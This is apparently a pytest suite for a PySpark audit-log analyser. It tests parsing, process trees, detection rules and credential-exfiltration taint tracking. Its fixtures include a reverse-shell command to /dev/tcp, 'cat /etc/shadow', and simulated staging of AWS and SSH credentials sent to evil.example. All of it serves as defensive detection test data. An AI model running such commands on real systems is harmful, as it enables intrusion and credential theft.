import random

import pytest
from pyspark.sql import Row
from pyspark.sql import functions as F

from tidemark.functions import paths as P
from tidemark.functions import text as T
from tidemark.functions.tokens import argument_line, pairs_of
from tidemark.operators import events as E
from tidemark.operators import incidents as I
from tidemark.operators import process_tree as tree_ops
from tidemark.operators import report as R
from tidemark.operators import syscalls as S
from tidemark.operators.rules import findings
from tidemark.operators.taint import taint_flows
from tidemark.operators.taint_fold import TaintState, fold
from tidemark.plans.analysis import analyze, analyze_jsonl, analyze_lines, analyze_log
from tidemark.sources.logs import as_lines, parse_jsonl, split_lines

FIELDS = ("pos", "seq", "pid", "ppid", "kind", "exe", "target", "cmdline", "uid", "success", "auth")


def vector(spark, rows, uid=0):
    """rows (seq, pid, ppid, kind, exe, target, cmdline), all successful."""
    full = [(n + 1, *r[:4], r[4], r[5], r[6], uid, True, None) for n, r in enumerate(rows)]
    return spark.createDataFrame(full, "pos long, seq long, pid long, ppid long, kind string, exe string, target string, cmdline string, uid long, success boolean, auth string")


def one(spark, column, value, kind="string"):
    return spark.createDataFrame([(value,)], f"v {kind}").select(column(F.col("v")).alias("r")).first()["r"]


@pytest.mark.parametrize("raw, want", [('"ls"', "ls"), ("2f62696e2f7368", "/bin/sh"), ("610062", "a b"), ("(null)", ""), ("?", ""), ("", ""), ("6162", "ab"), ("abc", "abc"), ("E28261FFC3", "�a��"), (None, "")])
def test_decode(spark, raw, want):
    assert one(spark, T.decode, raw) == want


def test_decode_keeps_nul_in_argv(spark):
    assert one(spark, lambda v: T.decode(v, False), "610062") == "a\0b"


def test_clean(spark):
    assert [one(spark, T.clean, x) for x in ('"?"', "unset", "(unknown)", '"x"', "y")] == ["", "", "", "x", "y"]


def test_fields(spark):
    line = 'type=SYSCALL msg=audit(1.5:9): a=1 b="two words" c=(x y) a=2 d="q\\"q"\x1dUID="al ice" msg=\'op=x res=failed\''
    got = one(spark, T.record_fields, line)
    assert got["a"] == "2" and got["b"] == '"two words"' and got["c"] == "(x y)" and got["d"] == '"q\\"q"' and got["UID"] == '"al ice"' and got["op"] == "x" and got["res"] == "failed"
    assert tuple(one(spark, T.audit_header, line)) == ("1.5:9", 1.5) and one(spark, T.audit_header, "type=SYSCALL a=1") is None and one(spark, T.record_type, line) == "SYSCALL"
    assert len(one(spark, T.parse_fields, 'k="' + "a\\b" * 60_000 + '"')["k"]) == 180_002


@pytest.mark.parametrize(
    "fields, want",
    [('a0="cat" a1[0]=2f657463 a1[1]=2f73686164 a1[2]=6f77', "cat /etc/shadow"), ('a0="tar" a1="-czf" a2="/tmp/out.tar.gz"', "tar -czf /tmp/out.tar.gz"), ("argc=0", ""), ('a10="z" a2="y" a1="x"', "x y z"), ('a1="w" a1[0]="v" a0="u"', "u v")],
)
def test_command_line(spark, fields, want):
    assert one(spark, lambda v: T.command_line(T.entries(v)), fields) == want
    assert argument_line(pairs_of(fields)) == want


def test_arguments_in_arrow_are_those_of_columns(spark):
    """Random arguments: chunks, repeated places, NUL, invalid UTF-8, surrogates in UTF-8, odd hex and bare words."""
    rng = random.Random(11)
    byte_runs = [b"\0", b"\xff", b"\xe2\x82", b"\xed\xa0\x80", b"\xf0\x9f\x92\xa9", b"\xf4\x90\x80\x80", b"\xc0\xaf", b"\xf0\x80\x80", b"a", b" ", b"\xc3\xa9"]

    def value():
        form = rng.randrange(5)
        if form == 0:
            return f'"{rng.choice(["", "x y", "(null)", "41", "caf\u00e9", "\U0001f600"])}"'
        if form == 1:
            return rng.choice(["(null)", "(none)", "?", "abc", "a", "0x41", "\u0661\u0662", '"'])
        return b"".join(rng.choices(byte_runs, k=rng.randrange(1, 7))).hex().upper()

    def key():
        return rng.choice(["a{}", "a0{}", "a{}[0]", "a{}[1]", "a{}[01]", "a{}_len", "b{}", "a\u0661{}"]).format(rng.randrange(4))

    lines = [" ".join(f"{key()}={value()}" for _ in range(rng.randrange(7))) for _ in range(600)]
    df = spark.createDataFrame([(i, v) for i, v in enumerate(lines)], "i int, v string")
    got = dict(df.select("i", T.command_line(T.entries(F.col("v")))).collect())
    assert {i: argument_line(pairs_of(v)) for i, v in enumerate(lines)} == got


@pytest.mark.parametrize("blob, want", [("02000050C0A80001", "192.168.0.1:80"), ("0A0001BB0000000020010DB800000000000000000000000100000000", "[2001:db8:0:0:0:0:0:1]:443"), ("01002F746D70", None), ("0200", None), ("zz", None)])
def test_socket_address(spark, blob, want):
    assert one(spark, T.socket_address, blob) == want


def test_epoch_text(spark):
    assert [one(spark, T.show_epoch, x, "double") for x in (0.0, 1780000012.9)] == ["1970-01-01 00:00:00", "2026-05-28 20:26:52"]


def test_integers_wrap(spark):
    assert [one(spark, lambda v: T.integer(v, -7), x) for x in (" +5 ", "12x", '"5"', "")] == [5, -7, -7, -7]
    assert one(spark, T.unsigned, -1, "long") == 4294967295


def test_noise_and_sensitivity(spark):
    default, extra, alone, off = P.NoiseConfig(), P.NoiseConfig(extra=("/opt/a",)), P.NoiseConfig(extra=("/opt/a",), replace=True), P.NoiseConfig(include_noise=True, extra=("/opt/a",))
    for path, want in {"/proc/1/status": (1, 1, 0, 0), "/usr/x/libc.so.6": (1, 1, 0, 0), "/opt/a/b": (0, 1, 1, 0), "/home/u/.aws/credentials": (0, 0, 0, 0)}.items():
        assert tuple(int(one(spark, c.is_noise, path)) for c in (default, extra, alone, off)) == want
    assert one(spark, P.is_sensitive, "/home/U/.AWS/Credentials") and not one(spark, P.is_sensitive, "/srv/x")


def test_danger(spark):
    label = lambda exe, cmd: spark.range(1).select(P.danger_labels(F.lit(exe), F.lit(cmd)).alias("d")).first()["d"]
    assert "recursive rm" in label("/bin/rm", "rm -rf /var/tmp/x")
    assert label("/tmp/x/mkfs.ext4", "ls") == ["binary in world-writable dir", "filesystem format"]
    assert label("/bin/ls", "ls -la") == []


def test_syscalls(spark):
    calls = [("c000003e", "59"), ("c000003e", "322"), ("c000003e", "11"), ("40000003", "11"), ("c00000b7", "221"), ("40000028", "221"), ("deadbeef", "59"), ("c000003e", "20"), ("c000003e", "288"), ("c000003e", "4"), ("c000003e", "x")]
    df = spark.createDataFrame([(i, *c) for i, c in enumerate(calls)], "i int, arch string, syscall_nr string")
    got = [r["syscall_kind"] for r in S.with_syscall(df, S.syscall_dimension(spark)).orderBy("i").collect()]
    assert got == ["exec", "exec", None, "exec", "exec", "exec", None, "file", "net-accept", "file-meta", None]


def test_syscall_headers(spark, tmp_path):
    (tmp_path / "unistd.h").write_text("#define __NR_munmap 11\n#define __NR_read 0\n")
    dim = S.syscall_dimension(spark, {"x86_64": str(tmp_path / "unistd.h")}).where("arch_table = 'x86_64' and nr in ('0', '11')")
    assert {(r["nr"], r["name"], r["syscall_kind"]) for r in dim.collect()} == {("0", "read", "file"), ("11", "munmap", "other")}


def events_of(spark, text, **options):
    good, _ = split_lines(as_lines(spark, text))
    return E.build_events(E.parse_records(good), S.syscall_dimension(spark), options.get("noise")).orderBy("pos").collect()


SYS = "type=SYSCALL msg=audit({t}:{i}): arch={arch} syscall={nr} success=yes exit=0 ppid=1 pid={pid} uid=0 comm=\"c\" exe=\"{exe}\" key={key}"


def sys_line(t="1.0", i=1, arch="c000003e", nr=257, pid=5, exe="/bin/x", key="(null)"):
    return SYS.format(t=t, i=i, arch=arch, nr=nr, pid=pid, exe=exe, key=key)


def path_line(name, t="1.0", i=1):
    return f"type=PATH msg=audit({t}:{i}): item=0 name={name}"


def test_admission(spark):
    kept = lambda lines, **o: [(r["kind"], r["target"]) for r in events_of(spark, "\n".join(lines), **o)]
    noisy = [sys_line(i=1), path_line('"/proc/1/maps"', i=1), sys_line(i=2), path_line('"/home/u/secret"', i=2)]
    assert kept(noisy) == [("file", "/home/u/secret")] and len(kept(noisy, noise=P.NoiseConfig(include_noise=True))) == 2
    stat = [sys_line(nr=4), path_line('"/home/u/.ssh/id_rsa"')]
    assert kept(stat) == [] and kept([sys_line(nr=4, key='"k"'), stat[1]]) == [("file-meta", "/home/u/.ssh/id_rsa")]
    assert kept([sys_line(arch="deadbeef", nr=59)]) == [] and kept([sys_line(arch="deadbeef", nr=59), 'type=EXECVE msg=audit(1.0:1): a0="x"'])[0][0] == "exec"
    home = P.NoiseConfig(extra=("/home",))
    cred = [sys_line(), path_line('"/home/u/.aws/credentials"')]
    assert kept(cred, noise=home) == [] and len(kept([sys_line(key='"k"'), cred[1]], noise=home)) == 1
    assert kept([sys_line(i=1), sys_line(i=2), path_line('"/a"', i=1)]) == [("file", "/a"), ("file", "")]
    assert kept([sys_line(), path_line('"/a"'), path_line('"/b"')]) == [("file", "/b")] and kept([sys_line(), path_line('"/a"'), path_line("(null)")]) == [("file", "")]
    assert kept([path_line('"/a"')]) == []


@pytest.mark.parametrize("verdicts, want", [([(12, "failed")], True), ([(12, "failed"), (60, "success")], False), ([(41, "failed")], False), ([(9, "failed")], False), ([(40, "failed")], False), ([(10, "failed")], True)])
def test_auth_window(spark, verdicts, want):
    lines = [sys_line(t="10.0", nr=59, exe="/usr/bin/sudo")] + [f"type=USER_AUTH msg=audit({t}.0:{n + 9}): pid=5 msg='op=PAM:x res={res}'" for n, (t, res) in enumerate(verdicts)]
    (event,) = events_of(spark, "\n".join(lines))
    assert (event["auth"] == "failed") == want == ("authentication failed" in event["danger"])


def test_system_events(spark):
    text = """type=ADD_USER msg=audit(1.0:1): pid=3 auid=7 msg='op="adding user" acct="eve" exe="/usr/sbin/useradd" res=success'
type=SERVICE_STOP msg=audit(2.0:2): pid=1 auid=0 msg='unit=auditd res=success'
type=CONFIG_CHANGE msg=audit(3.0:3): op=add_rule key="k" res=1
type=ANOM_ABEND msg=audit(4.0:4): pid=-1 res=failed"""
    a, s, c, n = events_of(spark, text)
    assert (a["kind"], a["target"], a["exe"], a["cmdline"], a["uid"], a["row_kind"]) == ("user-add", "eve", "useradd", "adding user eve", 7, "account")
    assert (s["cmdline"], s["danger"], s["exe"]) == ("auditd stopped", ["audit config change"], "-")
    assert (c["cmdline"], c["success"]) == ("add_rule: k", True)
    assert (n["cmdline"], n["pid"], n["danger"]) == ("anom_abend", 4294967295, ["failed account/group change"])


def test_bad_lines(spark):
    good, errors = split_lines(as_lines(spark, "garbage\n\n# type=x\n" + "é" * 80 + "\ntype=X\r\n"))
    assert [r["error"] for r in errors.orderBy("line_no").collect()] == ["unparseable line: garbage", "unparseable line: " + "é" * 60] and good.count() == 1
    for n in (0, 1, 33, 64):
        blob = (b"\x00\x3a\x7f\xc3\xd6\xae\xff" * n).decode("latin-1")
        events_of(spark, f"type=SYSCALL msg=audit(1.0:1): {blob}\n{blob}")


def test_log_file(spark, tmp_path):
    (tmp_path / "a.log").write_bytes(("\n".join([sys_line(i=i, t=f"{i}.0") for i in range(1, 40)]) + "\n").encode() + b"type=X \xff\n")
    a = analyze_log(spark, str(tmp_path / "a.log"))
    assert a.events.count() == 39 and [r["seq"] for r in a.events.orderBy("pos").collect()] == list(range(1, 40))


def test_jsonl(spark):
    text = '{"kind":"exec","epoch":10,"tty":3}\n# c\n\n{"kind":"file","epoch":5,"seq":7,"row_kind":"w"}\nnot json\n{"pid":-1}\n{"pid":null}\n{"seq":1,"pid":5000000000}'
    lines = as_lines(spark, text)
    events, errors = parse_jsonl(lines)
    rows = events.orderBy("pos").collect()
    assert [(r["seq"], r["kind"], r["row_kind"], r["success"], r["uid"]) for r in rows] == [(7, "file", "w", False, 0), (1, "exec", "exec", False, 0)]
    assert events.where("kind = 'exec'").select(F.col("extra")["tty"].cast("int").alias("t")).first()["t"] == 3
    assert sorted(r["line_no"] for r in errors.collect()) == [5, 6, 7, 8]


def test_jsonl_file(spark, tmp_path):
    (tmp_path / "e.jsonl").write_text('{"kind":"file","pid":5,"target":"/h/.aws/credentials","success":true}\n{"kind":"net-connect","pid":5,"target":"1.2.3.4:9","success":true}\n')
    a = analyze_jsonl(spark, str(tmp_path / "e.jsonl"))
    assert [r["severity"] for r in a.incidents.collect()] == [4]


def tree_of(spark, pairs):
    events = vector(spark, [(n, p, pp, "exec", f"/bin/p{p}", "", "") for n, (p, pp) in enumerate(pairs)])
    tree = tree_ops.build_tree(events)
    paths = tree_ops.ancestor_paths(tree)
    return tree, paths, {r["pid"]: r for r in tree_ops.chains(tree, paths).collect()}


def test_tree(spark):
    tree, paths, chain = tree_of(spark, [(1, 0), (100, 1), (200, 100), (7, 8), (8, 7), (9, 9)])
    assert chain[200]["chain"] == "?(0) → p1(1) → p100(100) → p200(200)" and chain[200]["root"] == 0
    assert (chain[7]["root"], chain[8]["root"], chain[9]["root"]) == (8, 7, 9) and len(chain[7]["chain_pids"]) == 66
    pairs = {(r["ancestor"], r["pid"]) for r in tree_ops.ancestry(tree, paths).collect()}
    assert {(100, 200), (1, 200), (0, 200), (9, 9), (7, 7)} <= pairs and (200, 100) not in pairs and (99, 7) not in pairs


def test_long_chain_is_cut(spark):
    _, _, chain = tree_of(spark, [(p, p - 1) for p in range(1, 100)])
    assert chain[99]["root"] == 99 - 65 and chain[20]["root"] == 0


RULE_CASES = [
    ("LT001", ("exec", "/bin/bash", "", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), "LT001"), ("none", ("exec", "/bin/ls", "", "ls -la"), ""), ("LT002", ("exec", "/usr/bin/su", "", ""), "LT002"), ("LT003", ("user-add", "x", "", ""), "LT003"),
    ("LT004", ("file", "x", "/home/u/.SSH/id_rsa", ""), "LT004"), ("LT005", ("file", "x", "/h/.kube/config", ""), "LT005"), ("LT006", ("net-connect", "x", "185.199.108.153:443", ""), "LT006"), ("LT006n", ("net-connect", "x", "host.x:443", ""), ""),
    ("LT007", ("exec", "x", "", "systemctl enable y"), "LT007"), ("LT007f", ("file", "x", "/etc/cron.d/y", ""), "LT007"), ("LT008", ("file", "x", "/var/log/a", "truncate -s0"), "LT008"), ("LT009", ("exec", "x", "", "sqlite3 a .dump"), "LT009"),
    ("LT010", ("exec", "x", "", "tar c /etc/x"), "LT010"),
]


def test_rules(spark):
    events = vector(spark, [(n, n + 10, 1, kind, exe, target, cmd) for n, (_, (kind, exe, target, cmd), _) in enumerate(RULE_CASES)], uid=1000)
    got = {}
    for r in findings(events).collect():
        got.setdefault(r["pid"], []).append(r["rule_id"])
    assert [",".join(got.get(n + 10, [])) for n in range(len(RULE_CASES))] == [want for *_, want in RULE_CASES]


def flows_of(spark, rows, **options):
    events = vector(spark, rows)
    tree = tree_ops.build_tree(events)
    chain = tree_ops.chains(tree, tree_ops.ancestor_paths(tree))
    return [(r["sink_kind"], r["sink_pid"], r["origin_pid"], r["taint"]["kind"], r["carrier"]) for r in taint_flows(events, chain, **options).orderBy("ord").collect()]


CRED, STAGE = "/home/u/.aws/credentials", "/tmp/.sysupdate.tar.gz"


def test_staged_across_trees(spark):
    rows = [(1, 100, 1, "file", "a", CRED, ""), (2, 100, 1, "file", "a", STAGE, ""), (3, 1100, 1, "file", "b", STAGE, ""), (4, 1100, 1, "net-connect", "b", "185.199.108.153:443", "")]
    c = "cloud-credentials"
    assert flows_of(spark, rows) == [("archive-write", 100, 100, c, STAGE), ("archive-write", 1100, 100, c, STAGE), ("net-exfil", 1100, 100, c, STAGE)]
    (incident,) = analyze(vector(spark, rows)).incidents.collect()
    assert incident["severity"] == 4 and incident["actors"] == [100, 1100] and incident["findings"] == ["LT005", "LT006"] and "exfiltration" in incident["title"]


def test_reused_pid(spark):
    rows = [(1, 5, 1, "file", "a", CRED, ""), (2, 5, 1, "exec", "a", "", "x"), (3, 5, 1, "net-connect", "a", "h:1", "")]
    assert flows_of(spark, rows) == [("net-exfil", 5, 5, "cloud-credentials", "")] and flows_of(spark, rows, exec_clears_taint=True) == []
    named = [(1, 5, 1, "exec", "a", "", f"cat {CRED}"), (2, 5, 1, "net-connect", "a", "h:1", "")]
    assert flows_of(spark, named) == flows_of(spark, named, exec_clears_taint=True) == [("net-exfil", 5, 5, "cloud-credentials", "")]


def test_inherited_empty_and_frozen(spark):
    assert flows_of(spark, [(1, 50, 1, "file", "a", "/u/.ssh/id_rsa", ""), (2, 60, 50, "net-connect", "a", "h:1", "")]) == [("net-exfil", 60, 60, "credentials", "")]
    empty = [(1, 5, 1, "file", "a", CRED, ""), (2, 5, 1, "file", "a", "", ""), (3, 9, 1, "file", "a", "", ""), (4, 9, 1, "net-send", "a", "h:1", "")]
    assert flows_of(spark, empty) == [("net-exfil", 9, 5, "cloud-credentials", "")]
    frozen = [(1, 1, 9, "file", "a", CRED, ""), (2, 1, 9, "file", "a", "/x", ""), (3, 2, 9, "file", "a", "/k.p12", ""), (4, 2, 9, "file", "a", "/x", ""), (5, 3, 9, "file", "a", "/x", ""), (6, 3, 9, "net-accept", "a", "h:1", "")]
    assert flows_of(spark, frozen) == [("net-accept", 3, 1, "cloud-credentials", "/x")]


@pytest.mark.parametrize("seed", range(2))
def test_fixpoint_equals_fold(spark, seed):
    """Many random logs at once, told apart by pid and path."""
    rng, rows = random.Random(seed), []
    for log in range(60):
        pids, targets = [log * 10 + p for p in range(1, 7)], [CRED.replace("u", f"v{log}"), f"/d{log}/k.p12", f"/s{log}.zip", f"/t{log}", f"/w{log}", f"/n{log}:1"]
        for _ in range(rng.randint(2, 30)):
            kind = rng.choice(["exec", "file", "file", "file", "net-connect", "net-accept", "watch"])
            target = rng.choice(targets)
            cmd = " ".join(rng.sample(targets, 2)) if kind == "exec" and rng.random() < 0.5 else "x"
            rows.append((0, rng.choice(pids), rng.choice(pids), kind, "e", f"h{log}:1" if kind.startswith("net") else target, cmd))
    rng.shuffle(rows)
    events = [Row(pos=n + 1, seq=n + 1, pid=r[1], ppid=r[2], kind=r[3], exe=r[4], target=r[5], cmdline=r[6], uid=0, success=rng.random() < 0.9, auth=None) for n, r in enumerate(rows)]
    df = spark.createDataFrame(events, "pos long, seq long, pid long, ppid long, kind string, exe string, target string, cmdline string, uid long, success boolean, auth string")
    tree = tree_ops.build_tree(df)
    got = [(r["ord"]["pos"], r["taint"]["kind"], r["sink_pid"], r["origin_pid"], r["sink_kind"], r["sink_target"], r["carrier"]) for r in taint_flows(df, tree_ops.chains(tree, tree_ops.ancestor_paths(tree))).orderBy("ord").collect()]
    want = [(f["pos"], f["kind"], f["sink_pid"], f["origin_pid"], f["sink_kind"], f["sink_target"], f["carrier"]) for f in fold([e.asDict() for e in events])]
    assert got == want and got


def test_fold_state():
    state = TaintState(cap=3)
    for i in range(10):
        state.step(1, 0, "file", f"/c{i}/.aws/credentials", "")
    assert list(state.carriers) == [f"/c{i}/.aws/credentials" for i in (7, 8, 9)] and len(state.origins) == 3
    state.step(2, 0, "file", "/x/id_rsa", "")
    state.keep_pids({1})
    assert set(state.held) == set(state.label) == {1}


def test_correlation(spark):
    low = [(1, 100, 2000, "net-connect", "a", "1.2.3.4:1", "")]
    assert analyze(vector(spark, low)).incidents.count() == 0
    staged = [(1, 100, 1, "file", "a", CRED, ""), (2, 100, 1, "file", "a", "/tmp/.stage.bin", ""), (3, 1100, 2000, "file", "b", "/tmp/.stage.bin", ""), (4, 1100, 2000, "net-connect", "b", "evil.example:443", "")]
    a = analyze(vector(spark, staged))
    first, second = a.incidents.collect()
    assert (first["root"], first["severity"], first["title"], first["actors"], first["carriers"]) == (2000, 4, "Data theft chain: Sensitive data → exfiltration of cloud-credentials", [100, 1100], ["/tmp/.stage.bin"])
    assert "signals: none (taint-only)" in first["summary"] and "seq 4–4" in first["summary"] and (second["root"], second["severity"]) == (1, 2)
    tie = analyze(vector(spark, [(1, 10, 1, "file", "a", CRED, ""), (2, 11, 1, "file", "b", "/u/.ssh/id_rsa", "")])).incidents.first()
    assert tie["chain"] == "?(1) → b(11)" and tie["severity"] == 3
    assert {tuple(h)[1:3] for h in I.cross_hops(a.incidents, a.tree, a.paths, strict=True, chains=a.chains).collect()} == {(100, 1100)}


def test_graph(spark):
    rows = [(1, 900, 1, "exec", "sshd", "", ""), (2, 1000, 900, "file", "sh", CRED, ""), (3, 1000, 900, "net-connect", "sh", "h:1", ""), (4, 900, 1, "file", "sshd", "/u/.ssh/id_rsa", "")]
    a = analyze(vector(spark, rows))
    layers = {r["depth"]: r["pids"] for r in I.graph_layers(a.incidents).collect()}
    assert layers == {0: [900], 1: [1000]}
    text = R.graph_text(a.incidents, a.tree, I.cross_hops(a.incidents, a.tree, a.paths), 1)
    assert "sshd(900)" in text and "  └─ sh(1000)  ╌╌▶ h:1" in text


def test_reports(spark):
    import json

    a = analyze(vector(spark, [(1, 5, 1, "file", "a", "/u/.ssh/id_rsa", "")]))
    assert json.loads(R.as_json(a.incidents, "s"))["incidents"][0]["severity"] == "medium" and "edges" not in json.loads(R.as_json(a.incidents, "s"))["incidents"][0]
    sarif = json.loads(R.as_sarif(a.incidents))
    assert sarif["version"] == "2.1.0" and sarif["runs"][0]["results"][0]["level"] == "warning"
    shown = R.terminal(a.incidents, "s")
    assert "MEDIUM" in shown and len({len(x) for x in shown.split("\n")[1:4]}) == 1 and "No incidents" in R.terminal(a.incidents.limit(0), "s")
    long = analyze_lines(as_lines(spark, 'type=SYSCALL msg=audit(1.0:1): arch=c000003e syscall=59 pid=5 ppid=1 uid=1000 exe="/usr/bin/sudo"\x1dUID="alice"\ntype=EXECVE msg=audit(1.0:1): a0="' + "x" * 200 + "\"\ntype=USER_AUTH msg=audit(2.0:2): pid=5 msg='op=PAM:x acct=\"r\" addr=1.1.1.1 res=failed'"))
    table = "\n".join(R.event_table(long.events))
    assert "1000 (alice)" in table and "! 1" in table and "auth fail…" in table and "1 flagged" in table and "x" * 200 in "\n".join(R.event_table(long.events, full=True))
    assert "1 total, 1 distinct source(s)" in R.auth_table(long.auth_failures)


def test_command(spark, tmp_path, capsys):
    from tidemark.__main__ import main

    (tmp_path / "a.log").write_text(sys_line(t="1.0") + "\n" + path_line('"/h/.aws/credentials"') + "\n")
    (tmp_path / "empty.log").write_text("# nothing\n")
    assert main([str(tmp_path / "a.log"), "-f", "json"], spark) == 2 and '"severity": "medium"' in capsys.readouterr().out
    assert main([str(tmp_path / "a.log"), "-m", "high"], spark) == 0 and main([str(tmp_path / "a.log"), "--plain"], spark) == 0 and main([str(tmp_path / "empty.log")], spark) == 1


def test_call_names_do_not_depend_on_the_machine(spark, tmp_path):
    """Built in are the calls whose kind matters. Others get their names from a kernel's file of calls, or from enriched records."""
    known = {(r["arch_table"], r["nr"]): (r["name"], r["syscall_kind"]) for r in S.syscall_dimension(spark).collect()}
    assert known["x86_64", "59"] == ("execve", "exec") and ("x86_64", "101") not in known and "other" not in {k for _, k in known.values()}
    for (table, nr), name in {("x86_64", 20): "writev", ("x86_64", 44): "sendto", ("x86_64", 46): "sendmsg", ("x86_64", 90): "chmod", ("x86_64", 188): "setxattr", ("x86_64", 9): "mmap", ("i386", 11): "execve", ("aarch64", 221): "execve"}.items():
        assert known[table, str(nr)][0] == name
    (tmp_path / "syscall_64.tbl").write_text("# numbers\n59\tcommon\texecve\tsys_execve\n101\tcommon\tptrace\t\tsys_ptrace\n")
    more = {(r["arch_table"], r["nr"]): (r["name"], r["syscall_kind"]) for r in S.syscall_dimension(spark, {"x86_64": str(tmp_path / "syscall_64.tbl")}).collect()}
    assert more == known | {("x86_64", "101"): ("ptrace", "other")}
    (tmp_path / "empty").write_text("nothing")
    with pytest.raises(ValueError):
        S.kernel_calls(str(tmp_path / "empty"))
    call = 'type=SYSCALL msg=audit(1.0:{0}): arch=c000003e syscall={0} success=yes exit=0 ppid=1 pid=2 uid=0 comm="c" exe="/bin/c" key="k"'
    rows = events_of(spark, call.format(101) + "\x1dARCH=x86_64 SYSCALL=ptrace UID=\"root\"\n" + call.format(102) + "\n" + call.format(59) + "\x1dSYSCALL=execve")
    assert sorted((r["syscall_nr"], r["syscall_name"]) for r in rows) == [("101", "ptrace"), ("102", ""), ("59", "execve")]


def test_numbers_spread_over_partitions(spark):
    """Rows of one second, of no time and of many, in one order, each task with a share of them."""
    from tidemark.operators import ordering
    from tidemark.operators.storage import save

    rows = [(None if i % 3 else float(i % 5) / 4, (i * 7919) % 500) for i in range(500)]
    df = save(spark.createDataFrame(rows, "epoch double, seq long"))
    numbered = ordering.number_by_time(df, "epoch", ["seq"], "n", rows_each=32)
    got = [((r["epoch"] or 0.0), r["seq"]) for r in numbered.orderBy("n").collect()]
    assert got == sorted(((e or 0.0), s) for e, s in rows) and sorted(r["n"] for r in numbered.collect()) == list(range(1, 501))
    second = save(spark.range(200_000).selectExpr("7.5D as epoch", "id % 1000 as pid", "id"))
    numbered = ordering.number_by_time(second, "epoch", ["pid", "id"], "n", rows_each=10_000)
    sizes = [r["count"] for r in numbered.select(F.spark_partition_id().alias("p")).groupBy("p").count().collect()]
    assert sum(sizes) == 200_000
    assert ordering.placed_rows(second, ["epoch", "pid", "id"], 10_000).groupBy("at_part").count().agg(F.count("*"), F.max("count")).where("`count(1)` < 15 or `max(count)` > 20000").isEmpty()
    assert numbered.where("n <> 1 + pid * 200 + (id - pid) / 1000").isEmpty()
    assert ordering.number_by_time(df.where("seq < 0"), "epoch", ["seq"], "n").collect() == []


def test_follow_plain_and_kept_state(spark, tmp_path, capsys):
    from tidemark.__main__ import main

    line = "type=SYSCALL msg=audit(1700000000.{0}:{0}): arch=c000003e syscall=59 success=yes exit=0 ppid=1 pid={0} uid=0 ses=1 comm=\"x\" exe=\"/bin/x{0}\" key=(null)"
    log = tmp_path / "a.log"
    log.write_text("".join(line.format(i) + "\n" for i in (7, 8)))
    run = lambda: main([str(log), "--follow", "--plain", "--seconds", "1", "--state", f"file://{tmp_path}/kept"], spark) or capsys.readouterr().out
    first = run()
    assert "/bin/x7" in first and "/bin/x8" in first
    with log.open("a") as f:
        f.write(line.format(9) + "\n")
    again = run()
    assert "/bin/x9" in again and "/bin/x7" not in again
